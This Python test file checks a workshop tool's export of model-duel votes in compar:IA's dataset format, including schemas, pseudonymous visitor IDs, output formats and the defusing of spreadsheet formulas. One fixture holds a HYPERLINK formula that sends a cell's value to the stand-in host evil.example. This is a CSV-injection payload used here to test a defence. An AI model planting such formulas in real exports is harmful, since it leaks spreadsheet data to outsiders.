"""The export: compar:IA's columns and types, its conventions, pseudonyms, what is left out."""

import csv
import io
import json
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from duels.models import Prompt
from tests.live_fixtures import phone
from workshop import dataset, dataset_files, simulation
from workshop.dataset import Selection
from workshop.live import Ballot, cast_vote
from workshop.models import HandCount, Organisation, Participant, Round, Vote

SAMPLES = Path("/work/shared/reference")
SAMPLE_TABLES = {
    "votes": "comparia_votes_sample.parquet",
    "conversations": "comparia_conversations_sample.parquet",
    "reactions": "comparia_reactions_sample.parquet",
}


def sample(name: str) -> pa.Table:
    path = SAMPLES / SAMPLE_TABLES[name]
    if not path.exists():
        pytest.skip(f"compar:IA's sample {path} is not on this machine")
    return pq.read_table(path)


def everything(**extra) -> Selection:
    return Selection(organisation_ids=None, **extra)


def vote(participant, round_, choice="a", reasons=None, comment_a="", comment_b=""):
    return cast_vote(
        participant.pk,
        Ballot(
            round_id=round_.pk,
            choice=choice,
            reasons=reasons or {},
            comment_a=comment_a,
            comment_b=comment_b,
            client_id=f"{participant.pk}-{choice}",
        ),
    )


@pytest.fixture
def voting(live_workshop):
    """The live workshop with its duel open for votes, and three phones in its first room."""
    simulation.advance_to(live_workshop.pk, {"vote_open"})
    live_workshop.round = Round.objects.get(workshop=live_workshop)
    live_workshop.phones = [phone(live_workshop.room_a).participant for _ in range(3)]
    return live_workshop


@pytest.fixture
def voted(voting):
    """A vote for A with reasons on both sides and comments, a vote for B, a tie."""
    first, second, third = voting.phones
    round_ = voting.round
    vote(
        first,
        round_,
        "a",
        {"a": ["useful", "clear_formatting"], "b": ["incorrect"]},
        comment_a="Très clair",
        comment_b="Faux",
    )
    vote(second, round_, "b")
    vote(third, round_, "both_equal", {"a": ["complete"], "b": ["complete"]})
    return voting


def test_every_sample_column_is_exported_with_the_same_arrow_type(voted):
    for name in SAMPLE_TABLES:
        theirs = sample(name).schema
        ours = dataset.SCHEMAS[name]
        for column in theirs:
            assert column.name in ours.names, f"{name}.{column.name} is missing"
            assert ours.field(column.name).type == column.type, f"{name}.{column.name}"
        exported = dataset.table(name, everything())
        assert exported.schema == ours


def test_our_export_concatenates_with_the_samples_without_a_cast(voted):
    for name in SAMPLE_TABLES:
        theirs = sample(name)
        ours = dataset.table(name, everything()).select(theirs.schema.names)
        both = pa.concat_tables([theirs, ours])
        assert both.num_rows == theirs.num_rows + ours.num_rows


def test_our_columns_come_after_compar_ia_s(voted):
    names = dataset.VOTES_SCHEMA.names
    theirs = [n for n in names if n in sample("votes").schema.names]
    assert max(names.index(n) for n in theirs) < names.index("workshop_id")


def test_a_vote_for_a_names_a_and_a_tie_names_nobody(voted):
    rows = {row["id"]: row for row in dataset.table("votes", everything()).to_pylist()}
    by_choice = {v.choice: rows[v.pk] for v in Vote.objects.all()}
    big, small = voted.big.slug, voted.small.slug
    round_ = voted.round
    slug_a, slug_b = round_.generation_a.model.slug, round_.generation_b.model.slug
    assert by_choice["a"]["chosen_model_name"] == slug_a
    assert by_choice["a"]["both_equal"] is False
    assert by_choice["b"]["chosen_model_name"] == slug_b
    assert by_choice["both_equal"]["chosen_model_name"] is None
    assert by_choice["both_equal"]["both_equal"] is True
    for row in rows.values():
        assert row["model_pair_name"] == sorted([big, small])
        assert (row["model_a_name"], row["model_b_name"]) == (slug_a, slug_b)
        assert row["conv_turns"] == 1


def test_reasons_are_set_per_side(voted):
    row = next(
        r
        for r in dataset.table("votes", everything()).to_pylist()
        if r["chosen_model_name"] == voted.round.generation_a.model.slug
    )
    assert row["conv_useful_a"] and row["conv_clear_formatting_a"]
    assert row["conv_incorrect_b"]
    assert not row["conv_useful_b"] and not row["conv_incorrect_a"] and not row["conv_complete_a"]


def test_reactions_are_one_liked_or_disliked_row_per_side_with_its_reasons(voted):
    reactions = dataset.table("reactions", everything()).to_pylist()
    # Vote for A: liked A (useful, clear_formatting), disliked B (incorrect); the tie:
    # liked A and liked B (complete); the vote for B gave no reasons.
    assert len(reactions) == 4
    assert len({r["id"] for r in reactions}) == 4
    for reaction in reactions:
        assert reaction["liked"] != reaction["disliked"]
        given = {reason for reason in Vote.REASONS if reaction[reason]}
        wanted = Vote.POSITIVE_REASONS if reaction["liked"] else Vote.NEGATIVE_REASONS
        assert given and given <= set(wanted)
        slug = reaction["model_a_name"] if reaction["model_pos"] == "a" else None
        if slug:
            assert reaction["refers_to_model"] == slug
        assert reaction["comment"] is None  # comments stay on the platform by default


def test_every_vote_is_its_own_pair_of_conversations_naming_the_shared_answer(voted):
    votes = dataset.table("votes", everything()).to_pylist()
    conversations = dataset.table("conversations", everything()).to_pylist()
    assert len({v["conversation_pair_id"] for v in votes}) == 3
    assert {v["conversation_pair_id"] for v in votes} == {
        c["conversation_pair_id"] for c in conversations
    }
    for row in conversations:
        assert row["conversation_pair_id"] == f"{row['conv_a_id']}-{row['conv_b_id']}"
        messages = json.loads(row["conversation_a"])
        assert [m["role"] for m in messages] == ["user", "assistant"]
        assert messages[1]["metadata"]["generation_id"] == voted.round.generation_a_id
        assert messages[1]["metadata"]["output_tokens"] == 60
        assert messages[1]["metadata"]["duration"] == pytest.approx(3.4)
        assert row["cached_response_a"] is False


def test_an_answer_reused_by_a_later_round_is_marked_cached(voted, live_workshop):
    from workshop.models import Workshop

    later = Workshop.objects.create(
        organisation=live_workshop.organisation, script=live_workshop.script, title="Jeudi"
    )
    again = Round.objects.create(
        workshop=later,
        step=voted.round.step,
        generation_a=voted.round.generation_b,
        generation_b=voted.round.generation_a,
    )
    room = later.rooms.create(name="x", join_code="ABCDEF")
    participant = Participant.objects.create(room=room, token_digest="d" * 64)
    Vote.objects.create(round=again, participant=participant, choice="a")
    rows = dataset.table("conversations", everything(workshop_ids=(later.pk,))).to_pylist()
    assert [(r["cached_response_a"], r["cached_response_b"]) for r in rows] == [(True, True)]


def test_comments_leave_only_when_the_organisation_chose_so(voted):
    rows = dataset.table("votes", everything()).to_pylist()
    assert all(r["conv_comments_a"] is None and r["conv_comments_b"] is None for r in rows)
    Organisation.objects.filter(pk=voted.organisation_id).update(export_free_text=True)
    rows = dataset.table("votes", everything()).to_pylist()
    assert {r["conv_comments_a"] for r in rows} == {"Très clair", None}
    reactions = dataset.table("reactions", everything()).to_pylist()
    assert "Faux" in {r["comment"] for r in reactions}


def test_the_visitor_id_is_stable_within_an_organisation_and_unlinkable_across(voted):
    first = voted.phones[0]
    rows = dataset.table("votes", everything()).to_pylist()
    ids = {r["visitor_id"] for r in rows}
    assert len(ids) == 3
    token = first.token_digest
    assert dataset.visitor_id(1, token) == dataset.visitor_id(1, token)
    assert dataset.visitor_id(1, token) != dataset.visitor_id(2, token)
    assert token not in ids
    assert all(token[:16] not in v for v in ids)


def test_the_same_phone_keeps_its_visitor_id_across_duels_of_a_workshop(voted):
    participant = voted.phones[0]
    expected = dataset.visitor_id(voted.organisation_id, participant.token_digest)
    rows = dataset.table("votes", everything()).to_pylist()
    assert expected in {r["visitor_id"] for r in rows}


def test_simulated_votes_are_left_out_unless_asked_for(voting):
    fake = simulation.add_participants(voting.room_a, 1)[0]
    vote(fake, voting.round, "a")
    vote(voting.phones[0], voting.round, "b")
    assert dataset.table("votes", everything()).num_rows == 1
    included = dataset.table("votes", everything(include_simulated=True)).to_pylist()
    assert sorted(r["simulated"] for r in included) == [False, True]


def test_hand_counts_are_a_table_of_counts_not_invented_votes(voting):
    HandCount.objects.create(round=voting.round, room=voting.room_b, a=12, b=7, both_equal=3)
    assert dataset.table("votes", everything()).num_rows == 0
    tallies = dataset.table("tallies", everything()).to_pylist()
    assert [(t["hands_a"], t["hands_b"], t["hands_both_equal"]) for t in tallies] == [(12, 7, 3)]
    assert tallies[0]["room"] == "Salle B"


def test_filters_by_organisation_model_and_language(voted, other_org):
    assert dataset.table("votes", Selection(organisation_ids=(other_org.pk,))).num_rows == 0
    mine = Selection(organisation_ids=(voted.organisation_id,))
    assert dataset.table("votes", mine).num_rows == 3
    assert dataset.table("votes", everything(model_slugs=("nope",))).num_rows == 0
    assert dataset.table("votes", everything(model_slugs=(voted.small.slug,))).num_rows == 3
    assert dataset.table("votes", everything(language="en")).num_rows == 0


@pytest.mark.parametrize("fmt", ["parquet", "jsonl", "csv"])
def test_every_format_writes_every_table_and_a_card(voted, tmp_path, fmt):
    written = dataset_files.export_to_directory(everything(), fmt, tmp_path)
    assert written.rows == {"votes": 3, "conversations": 3, "reactions": 4, "tallies": 0}
    card = (tmp_path / "README.md").read_text()
    assert card.startswith("---\nlicense: etalab-2.0\n")
    assert "language:\n  - fr" in card
    if fmt == "parquet":
        assert pq.read_table(tmp_path / "votes.parquet").schema == dataset.VOTES_SCHEMA
    elif fmt == "jsonl":
        lines = (tmp_path / "votes.jsonl").read_text().splitlines()
        assert len(lines) == 3 and json.loads(lines[0])["conv_turns"] == 1
    else:
        text = (tmp_path / "votes.csv").read_text()
        assert text.splitlines()[0].split(",")[:3] == ["id", "timestamp", "model_a_name"]


def test_a_parquet_export_streams_in_small_batches(voted):
    sink = io.BytesIO()
    batches = list(dataset.batches("votes", everything(), chunk_size=2))
    assert [b.num_rows for b in batches] == [2, 1]
    dataset_files.write_parquet(iter(batches), dataset.VOTES_SCHEMA, sink)
    assert pq.ParquetFile(io.BytesIO(sink.getvalue())).metadata.num_row_groups == 2


def test_a_zip_export_holds_every_table(voted):
    sink = io.BytesIO()
    dataset_files.export_to_zip(everything(), "parquet", sink)
    with zipfile.ZipFile(io.BytesIO(sink.getvalue())) as archive:
        names = set(archive.namelist())
        assert names == {f"{t}.parquet" for t in dataset.TABLES} | {"README.md"}
        table = pq.read_table(io.BytesIO(archive.read("votes.parquet")))
    assert table.num_rows == 3


# Spreadsheets: a text that begins like a formula leaves CSV and JSONL defused -------------

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Cliquez")'
LIVE_QUESTION = "-1+1 font combien ? Une question posée en direct."


@pytest.fixture
def formulas(voting):
    """A participant's comments that a spreadsheet would run, and a live question that
    begins like one (the round's prompt is where a live question's text goes)."""
    Organisation.objects.filter(pk=voting.organisation_id).update(export_free_text=True)
    Prompt.objects.filter(pk=voting.round.generation_a.prompt_id).update(text=LIVE_QUESTION)
    vote(
        voting.phones[0],
        voting.round,
        "a",
        {"a": ["useful"], "b": ["incorrect"]},
        comment_a=FORMULA,
        comment_b="@SUM(1+1)",
    )
    return voting


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def jsonl_rows(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines()]


def assert_defused(tables: dict[str, list[dict]]):
    """Every place a formula or the live question reaches, as a spreadsheet would read it."""
    [vote_row] = tables["votes"]
    assert vote_row["conv_comments_a"] == "'" + FORMULA
    assert vote_row["conv_comments_b"] == "'@SUM(1+1)"
    assert vote_row["opening_msg"] == "'" + LIVE_QUESTION
    [conversation] = tables["conversations"]
    assert conversation["opening_msg"] == "'" + LIVE_QUESTION
    comments = {row["comment"] for row in tables["reactions"]}
    assert {"'" + FORMULA, "'@SUM(1+1)"} <= comments
    assert all(row["opening_msg"] == "'" + LIVE_QUESTION for row in tables["reactions"])
    assert all(row["question_content"] == "'" + LIVE_QUESTION for row in tables["reactions"])


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_formula_comment_and_a_live_question_leave_csv_and_jsonl_defused(formulas, tmp_path, fmt):
    dataset_files.export_to_directory(everything(), fmt, tmp_path)
    read = csv_rows if fmt == "csv" else jsonl_rows
    tables = {
        name: read((tmp_path / f"{name}.{fmt}").read_text(encoding="utf-8"))
        for name in ("votes", "conversations", "reactions")
    }
    assert_defused(tables)
    assert FORMULA not in {row["conv_comments_a"] for row in tables["votes"]}
    # Numbers stay numbers; the card says what was done, so analysts can undo it.
    if fmt == "jsonl":
        assert tables["votes"][0]["conv_turns"] == 1
    card = (tmp_path / "README.md").read_text(encoding="utf-8")
    assert "précédé d'une apostrophe" in card


def test_a_zip_archive_in_csv_is_defused_too(formulas):
    sink = io.BytesIO()
    dataset_files.export_to_zip(everything(), "csv", sink)
    with zipfile.ZipFile(io.BytesIO(sink.getvalue())) as archive:
        tables = {
            name: csv_rows(archive.read(f"{name}.csv").decode())
            for name in ("votes", "conversations", "reactions")
        }
    assert_defused(tables)


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_streamed_table_is_defused_in_every_chunk(formulas, fmt):
    read = csv_rows if fmt == "csv" else jsonl_rows
    for name in ("votes", "conversations", "reactions"):
        text = b"".join(dataset_files.stream_text(name, everything(), fmt)).decode()
        assert FORMULA not in [row.get("conv_comments_a") for row in read(text)]
        assert all(row["opening_msg"] == "'" + LIVE_QUESTION for row in read(text))


def test_parquet_keeps_the_texts_as_they_were_typed(formulas):
    sink = io.BytesIO()
    dataset_files.export_to_zip(everything(), "parquet", sink)
    with zipfile.ZipFile(io.BytesIO(sink.getvalue())) as archive:
        votes = pq.read_table(io.BytesIO(archive.read("votes.parquet"))).to_pylist()
        reactions = pq.read_table(io.BytesIO(archive.read("reactions.parquet"))).to_pylist()
    assert votes[0]["conv_comments_a"] == FORMULA
    assert votes[0]["opening_msg"] == LIVE_QUESTION
    assert FORMULA in {row["comment"] for row in reactions}


def test_only_texts_are_defused_never_numbers():
    row = {
        "energy": -1.5,
        "turns": -2,
        "equal": True,
        "empty": "",
        "pair": ["=a", "b"],
        "nested": {"content": "+cmd", "tab": "\tx", "return": "\rx"},
        "plain": "Très clair = juste",
    }
    assert dataset_files.spreadsheet_safe(row) == {
        "energy": -1.5,
        "turns": -2,
        "equal": True,
        "empty": "",
        "pair": ["'=a", "b"],
        "nested": {"content": "'+cmd", "tab": "'\tx", "return": "'\rx"},
        "plain": "Très clair = juste",
    }
    table = pa.table({"gwp": [-0.5], "comment": ["-0.5"]})
    sink = io.BytesIO()
    dataset_files.write_csv(table.to_batches(), table.schema, sink)
    assert sink.getvalue().decode().splitlines() == ["gwp,comment", "-0.5,'-0.5"]
